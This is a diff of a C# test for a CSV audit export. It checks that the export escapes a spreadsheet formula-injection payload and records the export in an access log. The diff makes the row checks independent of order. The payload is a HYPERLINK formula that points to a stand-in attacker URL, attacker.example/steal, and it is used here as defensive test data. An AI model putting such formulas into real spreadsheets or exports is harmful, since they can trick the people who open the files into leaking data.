@@ -55,12 +55,10 @@ public class AuditExportTests(PostgresApp app) : IClassFixture<PostgresApp>
         var text = await response.Content.ReadAsStringAsync();
         text.ShouldContain("\"'=HYPERLINK(\"\"https://attacker.example/steal\"\",\"\"Click for details\"\")\"");
         var rows = CsvReader.Read(new StringReader(text)).Select(r => r.Fields).ToList();
-        rows.Count.ShouldBe(4);
-        string.Join(',', rows[3]).ShouldContain("Signed in");
-        rows[1][Column("Record")].ShouldBe("Change");
-        rows[1][Column("Reason")].ShouldBe("'" + formula);
-        rows[2][Column("Record")].ShouldBe("Access");
-        rows[2][Column("Subject")].ShouldBe(scenario.Reference);
+        rows.Count.ShouldBe(4, "a header, the change, the look and their sign-in");
+        rows.ShouldContain(r => string.Join(',', r).Contains("Signed in", StringComparison.Ordinal));
+        rows.ShouldContain(r => r[Column("Record")] == "Change" && r[Column("Reason")] == "'" + formula);
+        rows.ShouldContain(r => r[Column("Record")] == "Access" && r[Column("Subject")] == scenario.Reference);
         (await App.QueryAsync(db => db.AccessLog.AnyAsync(e => e.UserId == auditor.Id && e.ResourceType == "User" && e.ResourceId == scenario.Responder.Id && e.Action == "Export")))
             .ShouldBeTrue();
     }
